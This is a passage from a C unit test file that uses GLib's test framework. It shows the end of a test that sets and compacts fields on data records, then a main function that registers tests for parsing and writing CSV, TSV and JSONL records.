  g_assert_no_error (error);
  /* read holds some fields in a block, and one of its own. */
  dl_record_set (read, DL_COL_FORM, "2020");
  dl_record_set (made, DL_COL_FORM, "2020");
  dl_record_compact (read);
  assert_same_record (made, read);
  g_assert_nonnull (read->block);
  g_assert_cmpstr (dl_record_get (read, DL_COL_EVENT), ==, "");
  dl_record_set (read, DL_COL_DOC, "b.txt");
  dl_record_compact (read);
  dl_record_compact (read);
  dl_record_set (made, DL_COL_DOC, "b.txt");
  assert_same_record (made, read);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/record/format-names", test_format_names);
  g_test_add_func ("/record/read-extra-and-quotes", test_read_extra_and_quotes);
  g_test_add_func ("/record/missing-column", test_missing_column);
  g_test_add_func ("/record/bad-rows", test_bad_rows);
  g_test_add_func ("/record/nul-row", test_nul_row);
  g_test_add_func ("/record/bom", test_bom);
  g_test_add_func ("/record/header-in-stream", test_header_in_stream);
  g_test_add_func ("/record/open-bytes-holds", test_open_bytes_holds);
  g_test_add_func ("/record/duplicate-column", test_duplicate_column);
  g_test_add_func ("/record/empty-input", test_empty_input);
  g_test_add_func ("/record/write-round-trip", test_write_round_trip);
  g_test_add_func ("/record/write-big-field", test_write_big_field);
  g_test_add_func ("/record/header-only-output", test_header_only_output);
  g_test_add_func ("/record/guard", test_guard);
  g_test_add_func ("/record/write-invalid-utf8", test_write_invalid_utf8);
  g_test_add_func ("/record/tsv", test_tsv);
  g_test_add_func ("/record/jsonl-write", test_jsonl_write);
  g_test_add_func ("/record/jsonl-read", test_jsonl_read);
  g_test_add_func ("/record/jsonl-round-trip", test_jsonl_round_trip);
  g_test_add_func ("/record/output-file", test_output_file);
  g_test_add_func ("/record/output-errors", test_output_errors);
  g_test_add_func ("/record/iso-dates", test_iso_dates);
  g_test_add_func ("/record/date-option", test_date_option);
  g_test_add_func ("/record/text-keys", test_text_keys);
  g_test_add_func ("/record/utf8", test_utf8);
  g_test_add_func ("/record/write-commas", test_write_commas);
  g_test_add_func ("/record/spill-round-trip", test_spill_round_trip);
  g_test_add_func ("/record/compact", test_compact);
  return g_test_run ();
}
